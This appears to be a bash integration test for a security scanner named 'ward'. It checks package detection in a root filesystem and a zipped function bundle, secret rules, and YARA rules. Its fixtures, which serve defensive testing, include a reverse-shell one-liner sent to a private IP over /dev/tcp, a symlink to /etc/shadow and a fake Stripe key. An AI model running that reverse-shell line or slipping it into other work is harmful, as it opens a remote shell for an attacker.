#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Root filesystems and function bundles: a busybox root with real binaries (Go programs from
# this host for build info), a zip bundle with node_modules, Python dist-info and real jars
# (one nested in a war), user secret rules and YARA rules, and their error messages.
. "$(dirname "$0")/lib.sh"
. "$WARD_SRC/tests/integration/scan/fixtures.sh"
jqt() { jq -e "$@" >/dev/null; }

BB=$(fx_busybox_root) || { t_fail "busybox root"; t_done; exit 1; }
NPM=$(fx_npm_tree) || { t_fail "npm tree"; t_done; exit 1; }
R=$T_TMP/root
cp -a "$BB" "$R"; mkdir -p "$R/usr/bin" "$R/etc/alpine" "$R/opt"
ln -s /etc/shadow "$R/opt/escape"            # must not be followed
printf '3.19.1\n' >"$R/etc/alpine-release"

# Go: a Debian-built program (no module info: only the toolchain version) and, where this
# host has one, a module-built binary over the 16 MiB content cap (streamed path).
GO_DEB=/usr/bin/containerd
cp "$GO_DEB" "$R/usr/bin/"
GO_MOD=/usr/local/bin/terraform
[ -x "$GO_MOD" ] && cp "$GO_MOD" "$R/usr/bin/"
"$WARD" scan rootfs "$R" --json -q --no-secrets -o "$T_TMP/root.json"
gov=$(grep -a -o -m1 'go1\.[0-9]*\.[0-9]*' "$GO_DEB" | head -1 | sed 's/^go//')
t_check "Go toolchain of $GO_DEB: stdlib@$gov" jqt --arg v "$gov" '[.packages[] | select(.path=="usr/bin/containerd" and .name=="stdlib" and .version==$v and .purl==("pkg:golang/stdlib@"+$v))] | length==1' "$T_TMP/root.json"
t_check "OS from alpine-release when no os-release" jqt '.os.id=="alpine" and .os.version_id=="3.19.1"' "$T_TMP/root.json"
if [ -x "$GO_MOD" ]; then
  # reference: dep lines of the embedded module list, minus those replaced by local dirs
  python3 - "$GO_MOD" >"$T_TMP/go-ref.txt" <<'PY'
import re, sys
d = open(sys.argv[1], 'rb').read()
i = d.find(b'\xff Go buildinf:')
blob = d[i:i + (1 << 20)].decode('latin-1')
out, prev = [], None
for line in blob.split('\n'):
    f = line.split('\t')
    if f[0] == 'dep' and len(f) >= 3:
        prev = (f[1], f[2]); out.append(prev)
    elif f[0] == '=>' and prev and len(f) >= 3:
        out.pop()
        if not f[1].startswith(('.', '/')) and f[2] not in ('', '(devel)'):
            out.append((f[1], f[2]))
        prev = None
    elif line == '':
        continue  # Go leaves a blank line after a replacement without a checksum
    elif f[0] not in ('path', 'mod', 'build', 'dep', '=>') and out:
        break
for pv in sorted({p + '@' + v for p, v in out}):
    print(pv)
PY
  jq -r '.packages[] | select(.path=="usr/bin/terraform" and .name!="stdlib") | .name+"@"+.version' "$T_TMP/root.json" | LC_ALL=C sort -u >"$T_TMP/go-got.txt"
  t_check "$(wc -l <"$T_TMP/go-ref.txt") Go modules of a $(( $(stat -c %s "$GO_MOD") >> 20 )) MB binary, same as its build info" diff "$T_TMP/go-ref.txt" "$T_TMP/go-got.txt"
  t_check "Go modules list is not empty" test -s "$T_TMP/go-got.txt"
fi
t_check "symlink out of the root not followed" jqt '[.packages[], .secrets[], .malware[] | select(.path=="opt/escape")] | length==0' "$T_TMP/root.json"

# Bundle: node_modules, Python dist-info, a jar and a war nesting a jar.
B=$T_TMP/bundle; mkdir -p "$B/py/requests-2.31.0.dist-info" "$B/WEB-INF/lib" "$T_TMP/war/WEB-INF/lib"
cp -a "$NPM/node_modules" "$B/"
printf 'Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\nLicense: Apache 2.0\n\n' >"$B/py/requests-2.31.0.dist-info/METADATA"
JAR=/usr/share/java/commons-io-2.11.0.jar
cp "$JAR" "$B/"
cp "$JAR" "$T_TMP/war/WEB-INF/lib/"
(cd "$T_TMP/war" && zip -qr "$B/app.war" .)
echo 'STRIPE_KEY=sk_live_abcdefghijklmnopqrstuvwx' >"$B/.env"
(cd "$B" && zip -qr "$T_TMP/fn.zip" .)
"$WARD" scan bundle "$T_TMP/fn.zip" --json -q -o "$T_TMP/fn.json"
t_check "bundle: npm lodash" jqt '[.packages[] | select(.name=="lodash" and .version=="4.17.15")] | length==1' "$T_TMP/fn.json"
t_check "bundle: PyPI requests" jqt '[.packages[] | select(.ecosystem=="PyPI" and .name=="requests" and .purl=="pkg:pypi/requests@2.31.0")] | length==1' "$T_TMP/fn.json"
t_check "bundle: jar pom.properties -> commons-io:commons-io 2.11.0" jqt '[.packages[] | select(.name=="commons-io:commons-io" and .version=="2.11.0" and .path=="commons-io-2.11.0.jar" and .purl=="pkg:maven/commons-io/commons-io@2.11.0")] | length==1' "$T_TMP/fn.json"
t_check "bundle: jar nested in a war" jqt '[.packages[] | select(.name=="commons-io:commons-io" and .path=="app.war!/WEB-INF/lib/commons-io-2.11.0.jar")] | length==1' "$T_TMP/fn.json"
t_check "bundle: Stripe key in .env" jqt '[.secrets[] | select(.rule=="stripe-secret-key" and .path==".env" and (.snippet|contains("sk_live")|not))] | length==1' "$T_TMP/fn.json"

# User secret rules replace the built-ins; errors name file and line.
cat >"$T_TMP/rules.yaml" <<'Y'
rules:
  - id: acme-token
    description: ACME internal token
    regex: 'acme_([0-9a-f]{32})'
    severity: HIGH
    keywords: [acme_]
Y
echo 'x = acme_0123456789abcdef0123456789abcdef' >"$R/etc/acme.conf"
"$WARD" scan rootfs "$R" --json -q --no-malware --secret-rules "$T_TMP/rules.yaml" -o "$T_TMP/rules.json"
t_check "custom rule hit, line 1, redacted" jqt '.secrets | length==1 and .[0].rule=="acme-token" and .[0].severity=="HIGH" and .[0].snippet=="x = acme_********"' "$T_TMP/rules.json"
printf 'rules:\n  - id: broken\n    description: x\n    regex: "([a-z"\n' >"$T_TMP/bad.yaml"
set +e
"$WARD" scan rootfs "$R" -q --secret-rules "$T_TMP/bad.yaml" 2>"$T_TMP/bad.err"; rc=$?
set -e
t_check "bad rule: exit 1 naming file, line and rule" test "$rc" = 1
t_check "bad rule: message names file, line and rule" grep -q "bad.yaml:2: rule 'broken': regex error at offset" "$T_TMP/bad.err"

# User YARA rules add to ward's own.
mkdir -p "$T_TMP/yara"
printf 'rule acme_marker { meta: severity = "LOW" strings: $a = "ACME-MALWARE-MARKER" condition: $a }\n' >"$T_TMP/yara/acme.yar"
echo 'ACME-MALWARE-MARKER' >"$R/opt/marker.bin"
echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' >"$R/opt/rs.sh"
"$WARD" scan rootfs "$R" --json -q --no-secrets --yara-rules "$T_TMP/yara" -o "$T_TMP/yara.json"
t_check "user YARA rule hit with its severity" jqt '[.malware[] | select(.rule=="acme_marker" and .severity=="LOW" and .path=="opt/marker.bin")] | length==1' "$T_TMP/yara.json"
t_check "built-in reverse-shell rule still on" jqt '[.malware[] | select(.rule=="ward_reverse_shell" and .path=="opt/rs.sh")] | length==1' "$T_TMP/yara.json"
t_check "busybox and Go binaries are not flagged" jqt '[.malware[] | select(.path|test("^(bin|usr/bin)/"))] | length==0' "$T_TMP/yara.json"
printf 'rule bad { condition: $nope }\n' >"$T_TMP/yara/zz.yar"
set +e
"$WARD" scan rootfs "$R" -q --yara-rules "$T_TMP/yara" 2>"$T_TMP/yara.err"; rc=$?
set -e
t_check "bad YARA file: exit 1 naming file and line" bash -c "[ $rc = 1 ] && grep -q 'zz.yar:1' '$T_TMP/yara.err'"
t_done
